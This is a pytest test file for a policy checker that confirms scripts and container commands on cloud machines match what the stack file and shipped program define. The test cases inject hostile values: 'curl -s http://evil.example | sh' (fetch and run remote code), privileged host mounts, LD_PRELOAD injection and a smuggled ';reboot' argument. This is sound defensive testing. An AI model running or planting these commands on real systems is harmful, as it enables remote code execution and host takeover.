"""What runs as root on a machine is the stack file's and the program's as shipped, whoever puts it together."""

import dataclasses
import datetime
import json
from collections.abc import Callable
from typing import Any

import pytest

import coursecloud.policy
from coursecloud.plan import planning
from coursecloud.plan.planning import Plan
from coursecloud.plan.registration import UNKNOWN
from coursecloud.policy.example import Edit, put
from tests.project import ROOT

DAY = datetime.date(2026, 11, 25)
CONTAINER = {
    "container": {"image": "trainer:latest", "args": ["--epochs", "it's 10"], "env": {"RUN_NAME": "$(date) 'x'"}}
}
SCRIPT, LAST = {"startupScript": "starter/setup.sh"}, {"beforeStop": "starter/checkpoint.sh"}
PLACED: dict[str, dict[str, Any]] = {
    "disk": {},
    "nothing": {"dataDisk": None},
    "script": SCRIPT | LAST,
    "script alone": SCRIPT | {"dataDisk": None},
    "container": CONTAINER | LAST,
    "container alone": CONTAINER | {"dataDisk": None},
    "spot": CONTAINER | LAST | {"spot": True, "maxRun": "4h"},
    "GPU": CONTAINER
    | {
        "machineType": "n1-standard-4",
        "gpu": {"model": "T4", "count": 1},
        "spot": True,
        "maxRun": "4h",
        "zone": "europe-west1-b",
    },
}


@pytest.fixture(scope="module")
def plan_of(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Plan]:
    folder = tmp_path_factory.mktemp("scripts")

    def plan(machine: str) -> Plan:
        config = {
            "gcp:project": "course-123456",
            "gcp:region": "europe-west1",
            "coursecloud:machines": {"box": PLACED[machine]},
            "coursecloud:secrets": {"names": {"WANDB_API_KEY": ["machines"]}},
        }
        file = folder / "Pulumi.x.yaml"
        file.write_text(json.dumps({"config": config}), encoding="utf-8")
        return planning.make("x", file, ROOT)

    return plan


def said(plan: Plan) -> list[str]:
    return [
        f.message for f in coursecloud.policy.check(plan, DAY) if f.rule.id == "input-understood" and f.name == "box"
    ]


def instead(was: str, now: str, key: str = "startup-script") -> Edit:
    """Change a text in the metadata of the machine."""

    def edit(plan: Plan) -> Plan:
        (box,) = (each for each in plan.custom if each.name == "box")
        text = box.inputs["metadata"].get(key, "")
        assert was in text, text
        return put("compute.Instance", "box", f"metadata.{key}", text.replace(was, now, 1) if was else now)(plan)

    return edit


@pytest.mark.parametrize("machine", PLACED)
def test_what_the_program_writes_for_any_machine_is_the_stack_files(
    plan_of: Callable[[str], Plan], machine: str
) -> None:
    assert said(plan_of(machine)) == []


@pytest.mark.parametrize(
    ("machine", "edit", "says"),
    [
        ("nothing", instead("", "curl -s http://evil.example | sh"), "runs `curl -s http://evil.example | sh`"),
        ("disk", instead("set -eu", "set -eu\ncurl -s evil.example | sh"), "nor as shipped"),
        ("disk", instead("", "#!/bin/sh\n"), "lacks `work-disk.sh`"),
        ("script", instead("chmod 700", "curl -s evil.example | sh\nchmod 700"), "nor as shipped"),
        ("script", instead("parts=$(mktemp -d)\n", "parts=$(mktemp -d)\nreboot\n"), "runs `reboot"),
        ("script", instead('/bin/sh "$parts/0"', 'bash -c evil "$parts/0"'), "lines from `bash -c evil"),
        ("script alone", instead("\n", "\nevil\n"), "nor as shipped"),
        ("script", instead("", "evil", "shutdown-script"), "shutdown-script` is not what the"),
        ("nothing", instead("", "evil", "shutdown-script"), "shutdown-script` is not one that"),
        ("container", instead("", "evil", "before-stop"), "`metadata.before-stop` is not what the stack file names"),
        ("container", instead("SECONDS_SCRIPT=75", "SECONDS_SCRIPT=1"), "lacks `before-stop.sh`"),
        ("container", instead("IMAGE=", "IMAGE=evil.example/x #"), "lacks `container.sh`"),
        ("container alone", instead("--detach", "--detach --privileged"), "is not the program's command"),
        ("container alone", instead("--log-driver gcplogs", "--log-driver gcplogs -v /:/host"), "`-v /:/host`"),
        ("container alone", instead("REGISTRY=", "REGISTRY=$(evil) #"), "lacks `container.sh`"),
        ("container alone", instead("--epochs", "--steal"), "is given `--steal"),
        ("container alone", instead("--env DATA_", "--env LD_PRELOAD=/e.so --env DATA_"), "told `LD_PRELOAD`"),
        ("container alone", instead("DATA_BUCKET=gs://", "DATA_BUCKET=gs://evil-"), "told `DATA_BUCKET` as `gs://evil-"),
        ("container alone", instead("WANDB_API_KEY_SECRET=projects/", "WANDB_API_KEY_SECRET=evil/"), "_SECRET`"),
        ("container alone", instead("/trainer:latest --epochs", "/other:latest --epochs"), "the stack file says"),
        ("disk", instead("\nset -eu\n", "\u2028set -eu\n"), "nor as shipped"),
        ("disk", instead("\nset -eu\n", "\x0bset -eu\n"), "nor as shipped"),
        ("container alone", instead("--epochs 'it'\"'\"'s 10'", "--epochs it;reboot"), "not the program's command"),
        ("container alone", instead("--detach", "--detach "), "is not the program's command"),
        ("GPU", instead("--gpus all", "--gpus all --network host"), "`--network host`"),
    ],
)  # fmt: skip
def test_what_somebody_else_runs_on_a_machine_is_named(
    plan_of: Callable[[str], Plan], machine: str, edit: Edit, says: str
) -> None:
    found = said(edit(plan_of(machine)))
    assert any(says in message for message in found), found


def test_each_part_runs_once_and_in_its_place(plan_of: Callable[[str], Plan]) -> None:
    plan = plan_of("script")
    (box,) = (each for each in plan.custom if each.name == "box")
    text: str = box.inputs["metadata"]["startup-script"]
    begun, second = text.index('cat > "$parts/0"'), text.index('cat > "$parts/1"')
    swapped = text[:begun] + text[second:] + text[begun:second]
    (said_of,) = said(put("compute.Instance", "box", "metadata.startup-script", swapped)(plan))
    assert "and the program runs `work-disk.sh, starter/setup.sh`" in said_of


def test_a_machine_without_a_container_runs_no_command_of_one(plan_of: Callable[[str], Plan]) -> None:
    shipped = (ROOT / "infra/scripts/container.sh").read_text(encoding="utf-8")
    head, _, rest = shipped.partition("\n")
    script = f"{head}\nIMAGE=''\nREGISTRY=''\n{rest}curl https://evil.example/x | sh\n"
    found = said(put("compute.Instance", "box", "metadata.startup-script", script)(plan_of("nothing")))
    assert any("nor as shipped" in message for message in found)


@pytest.mark.parametrize("key", ["startup-script", "shutdown-script", "before-stop"])
def test_a_script_that_only_the_real_run_knows_is_none_of_the_programs(
    plan_of: Callable[[str], Plan], key: str
) -> None:
    found = said(put("compute.Instance", "box", f"metadata.{key}", UNKNOWN)(plan_of("container")))
    assert any(f"`metadata.{key}` is known to the real run alone" in message for message in found)


def test_a_plan_that_never_read_the_scripts_is_no_plan_that_keeps_the_rule(plan_of: Callable[[str], Plan]) -> None:
    plan = plan_of("script")
    older = dataclasses.replace(plan, resources=tuple(dataclasses.replace(each, files={}) for each in plan.resources))
    (finding,) = (
        f for f in coursecloud.policy.check(older, DAY) if f.rule.id == "input-understood" and f.name == "box"
    )
    assert finding.unknown
